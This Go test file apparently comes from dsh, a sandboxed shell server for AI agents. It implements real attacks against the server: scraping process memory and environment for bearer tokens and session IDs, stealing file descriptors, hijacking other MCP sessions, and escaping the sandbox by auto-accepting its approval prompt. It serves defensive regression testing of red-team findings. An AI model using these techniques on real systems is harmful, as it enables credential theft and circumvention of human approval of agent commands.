package main

// The attacker a hostile command runs against the dsh that started it
// (issue 15): the test binary, started with attackEnv set, reads dsh's
// environment and memory, takes its descriptors, and drives dsh serve with
// what it found. Each attack is real: the tests run it against a dsh it
// can reach (as root, the control) and one it must not (as nobody).

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/dsh-go/dsh/internal/proctest"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// attackEnv makes the test binary the attacker: its arguments are
// `MODE ARGS…`.
const attackEnv = "DSH_TEST_ATTACK"

// Tokens of the tests that attack dsh serve have this form, and session
// ids are those of the MCP SDK (crypto/rand.Text): what an attacker looks
// for in dsh's memory.
var (
	tokenPattern   = regexp.MustCompile(`dshtok[0-9a-f]{32}`)
	sessionPattern = regexp.MustCompile(`[^A-Z2-7]([A-Z2-7]{26})[^A-Z2-7]`)
)

// attackMain runs one attack and returns its exit status: 0 when it
// succeeded.
//
//	find PID REGEXP           print what REGEXP matches in PID's environment and memory
//	getfd PID FD TEXT         take PID's descriptor FD with pidfd_getfd and write TEXT to it
//	takeover URL PID VICTIM   find the token and session ids in PID's memory and list the
//	                          tasks of every session found; succeed when one lists VICTIM
//	newsession URL PID        find the token, open an MCP session of its own and run a command
//	mcpcall SOCK COMMAND      open an MCP session over dsh serve's Unix socket, run COMMAND
//	                          (sandboxed) and print what it returned
//	unixescape SOCK TARGET    open an MCP session over dsh serve's Unix socket, ask to run
//	                          `echo ESCAPED > TARGET` outside the sandbox and say yes to it
func attackMain(args []string) int {
	if len(args) < 2 {
		fmt.Fprintln(os.Stderr, "attack: MODE ARGS…")
		return 2
	}
	var err error
	switch args[0] {
	case "find":
		err = attackFind(args[1], regexp.MustCompile(args[2]))
	case "getfd":
		err = attackGetfd(args[1], args[2], args[3])
	case "takeover":
		err = attackTakeover(args[1], args[2], args[3])
	case "newsession":
		err = attackNewSession(args[1], args[2])
	case "mcpcall":
		err = attackCall(args[1], args[2], false)
	case "unixescape":
		err = attackCall(args[1], "echo ESCAPED > "+args[2], true)
	default:
		err = fmt.Errorf("unknown mode %q", args[0])
	}
	if err != nil {
		fmt.Println("attack failed:", err)
		return 1
	}
	return 0
}

func attackFind(pid string, re *regexp.Regexp) error {
	found, err := search(pid, re, 0)
	for _, f := range found {
		fmt.Println(f)
	}
	if len(found) == 0 {
		return fmt.Errorf("nothing found: %v", err)
	}
	return nil
}

// search collects the distinct matches of re (its first group, when it
// has one) in the environment and the readable memory of pid.
func search(pid string, re *regexp.Regexp, limit int) ([]string, error) {
	seen := map[string]bool{}
	var found []string
	add := func(data []byte) {
		for _, m := range re.FindAllSubmatch(data, -1) {
			s := string(m[len(m)-1])
			if !seen[s] && (limit == 0 || len(found) < limit) {
				seen[s] = true
				found = append(found, s)
			}
		}
	}
	env, envErr := os.ReadFile("/proc/" + pid + "/environ")
	add(env)
	memErr := eachRegion(pid, add)
	return found, errors.Join(envErr, memErr)
}

// eachRegion hands every readable mapping of pid's memory to fn, in
// chunks that overlap by a little, so no match is cut in two.
func eachRegion(pid string, fn func([]byte)) error {
	maps, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		return err
	}
	mem, err := os.Open("/proc/" + pid + "/mem")
	if err != nil {
		return err
	}
	defer mem.Close()
	const chunk, overlap = 1 << 20, 128
	buf, zeros := make([]byte, chunk+overlap), make([]byte, chunk+overlap)
	read := 0
	for line := range strings.SplitSeq(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || f[1][0] != 'r' || strings.HasSuffix(line, "[vvar]") || strings.HasSuffix(line, "[vsyscall]") {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		start, _ := strconv.ParseUint(lo, 16, 64)
		end, _ := strconv.ParseUint(hi, 16, 64)
		for off := start; off < end && read < 1<<30; off += chunk {
			n, _ := mem.ReadAt(buf[:min(uint64(len(buf)), end-off)], int64(off))
			// Untouched pages read as zeros and hold no secret; skipping
			// them keeps the attacker's search short.
			if n > 0 && !bytes.Equal(buf[:n], zeros[:n]) {
				fn(buf[:n])
				read += n
			}
		}
	}
	if read == 0 {
		return errors.New("no memory could be read")
	}
	return nil
}

// leakedToken is the token found in pid's memory.
func leakedToken(pid string) (string, error) {
	tokens, err := search(pid, tokenPattern, 1)
	if len(tokens) == 0 {
		return "", fmt.Errorf("no token found: %v", err)
	}
	return tokens[0], nil
}

func attackTakeover(url, pid, victim string) error {
	token, err := leakedToken(pid)
	if err != nil {
		return err
	}
	ids, _ := search(pid, sessionPattern, 500)
	for _, id := range ids {
		body, _, err := mcpPost(url, token, id, `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"task_list","arguments":{}}}`)
		if err == nil && strings.Contains(body, victim) {
			fmt.Printf("TAKEOVER: session %s lists %s\n", id, victim)
			return nil
		}
	}
	return fmt.Errorf("token found, but none of %d session ids lists %s", len(ids), victim)
}

func attackNewSession(url, pid string) error {
	token, err := leakedToken(pid)
	if err != nil {
		// Without a token: the server must refuse.
		_, status, _ := mcpPost(url, "", "", initializeRequest)
		return fmt.Errorf("%v; without it the server says %d", err, status)
	}
	_, _, err = mcpPost(url, token, "", initializeRequest)
	if err != nil {
		return err
	}
	session := lastSession
	if _, _, err := mcpPost(url, token, session, `{"jsonrpc":"2.0","method":"notifications/initialized"}`); err != nil {
		return err
	}
	body, _, err := mcpPost(url, token, session, `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"bash","arguments":{"command":"echo REBORN-$((6*7))","description":"keep alive"}}}`)
	if err != nil || !strings.Contains(body, "REBORN-42") {
		return fmt.Errorf("the new session ran nothing: %v %s", err, body)
	}
	fmt.Println("NEW SESSION ran a command")
	return nil
}

// attackCall opens an MCP session over dsh serve's Unix socket sock and
// calls bash with command, outside the sandbox when escape is set,
// answering yes to the question that asks. It prints the result: an
// escape succeeded when the command ran (the red team's reproduction of
// issue 27: a command that reached the socket of the dsh that started it
// wrote ~/.bashrc as root).
func attackCall(sock, command string, escape bool) error {
	ctx, cancel := context.WithTimeout(context.Background(), proctest.Scale(30*time.Second))
	defer cancel()
	client := mcp.NewClient(&mcp.Implementation{Name: "attacker", Version: "1"}, &mcp.ClientOptions{
		ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{}}, nil
		},
	})
	httpc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", sock)
	}}}
	cs, err := client.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: "http://localhost/mcp", HTTPClient: httpc}, nil)
	if err != nil {
		return fmt.Errorf("no session over %s: %w", sock, err)
	}
	defer cs.Close()
	args := map[string]any{"command": command, "description": "attack"}
	if escape {
		args["dangerouslyDisableSandbox"] = true
	}
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "bash", Arguments: args})
	if err != nil {
		return fmt.Errorf("the call failed: %w", err)
	}
	var text strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			text.WriteString(tc.Text)
		}
	}
	if escape && (res.IsError || text.String() != "(no output)") {
		return fmt.Errorf("the escape did not run: %q", text.String())
	}
	if escape {
		fmt.Println("ESCAPED through", sock)
		return nil
	}
	fmt.Println(text.String())
	return nil
}

const initializeRequest = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"attacker","version":"1"}}}`

// lastSession is the session id of the last response that named one.
var lastSession string

// mcpPost posts one JSON-RPC message to dsh serve and returns the body
// (a JSON response or an event stream), the status and an error for any
// status but 200 and 202.
func mcpPost(url, token, session, msg string) (string, int, error) {
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(msg))
	if err != nil {
		return "", 0, err
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if session != "" {
		req.Header.Set("Mcp-Session-Id", session)
	}
	resp, err := (&http.Client{Timeout: proctest.Scale(10 * time.Second)}).Do(req)
	if err != nil {
		return "", 0, err
	}
	defer resp.Body.Close()
	if id := resp.Header.Get("Mcp-Session-Id"); id != "" {
		lastSession = id
	}
	var b bytes.Buffer
	sc := bufio.NewScanner(io.LimitReader(resp.Body, 1<<20))
	for sc.Scan() {
		b.WriteString(sc.Text() + "\n")
		if strings.HasPrefix(sc.Text(), "data:") {
			break // the one response of an event stream
		}
	}
	if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusAccepted {
		return b.String(), resp.StatusCode, fmt.Errorf("%s: %d", url, resp.StatusCode)
	}
	return b.String(), resp.StatusCode, nil
}
